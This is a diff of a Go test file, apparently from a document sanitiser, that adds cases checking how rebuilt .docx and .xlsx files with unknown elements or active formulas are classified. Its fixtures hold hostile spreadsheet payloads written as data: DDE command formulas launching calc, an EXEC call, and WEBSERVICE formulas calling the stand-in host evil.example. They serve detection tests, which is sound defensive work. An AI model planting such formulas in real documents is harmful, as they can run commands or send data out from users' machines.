@@ -206,7 +206,9 @@ func TestBrokenRebuilders(t *testing.T) {
 		{"formula with a harmless formula inside", "a.xlsx", codeMarkup, formula(`cmd|'/c calc'!A0<f>1</f>`)},
 		{"name that an element cuts", "a.xlsx", codeMarkup, xlsx(t).replace("xl/workbook.xml", "表!$A$1", `EXEC(<sheets/>"calc")`).zip()},
 		{"formula of a drawing that an element cuts", "a.xlsx", codeMarkup, vml(`<v:shape><x:ClientData ObjectType="List"><x:FmlaRange>cmd|<x:Row/>'/c calc'!A0</x:FmlaRange></x:ClientData></v:shape>`)},
-		{"formula of a sort that nobody knows", "a.xlsx", codeActive, xlsx(t).replace("xl/worksheets/sheet1.xml", "<sheetData>", `<n:f xmlns:n="http://schemas.microsoft.com/office/spreadsheetml/2014/11/main">cmd|'/c calc'!A0</n:f><sheetData>`).zip()},
+		{"element of no standard", "a.docx", codeMarkup, docx(t).replace("word/document.xml", "<w:body>", `<w:body><w:launch/>`).zip()},
+		{"element of another standard", "a.docx", codeMarkup, docx(t).replace("word/document.xml", "<w:body>", `<w:body><w:sld/>`).zip()},
+		{"formula of a sort that nobody knows", "a.xlsx", codeActive, xlsx(t).replace("xl/worksheets/sheet1.xml", "<sheetData>", `<n:f xmlns:n="http://schemas.microsoft.com/office/drawing/2012/chart">cmd|'/c calc'!A0</n:f><sheetData>`).zip()},
 		{"threshold that calls the web", "a.xlsx", codeActive, xlsx(t).replace("xl/worksheets/sheet1.xml", "<sheetData>", `<cfvo type="formula" val="WEBSERVICE(&quot;http://evil.example/&quot;)"/><sheetData>`).zip()},
 		{"pivot field that calls the web", "a.xlsx", codeActive, xlsx(t).replace("xl/worksheets/sheet1.xml", "<sheetData>", `<cacheField formula="WEBSERVICE(&quot;http://evil.example/&quot;)"/><sheetData>`).zip()},
 
@@ -266,6 +268,8 @@ func TestTimeIsUp(t *testing.T) {
 func TestOtherEyes(t *testing.T) {
 	neutral := map[string]bool{
 		"github.com/sekisho/sekisho/dataplane/verdict": true,
+		// names of elements, as the standards define them; what of them may stay each side says by itself
+		"github.com/sekisho/sekisho/dataplane/schema": true,
 		// of the standard library: values, strings, errors, sums
 		"bytes": true, "context": true, "encoding/base64": true, "crypto/sha256": true, "embed": true, "encoding/binary": true, "encoding/hex": true, "encoding/json": true,
 		"errors": true, "fmt": true, "hash/crc32": true, "io": true, "maps": true, "path": true, "regexp": true, "slices": true, "strconv": true,
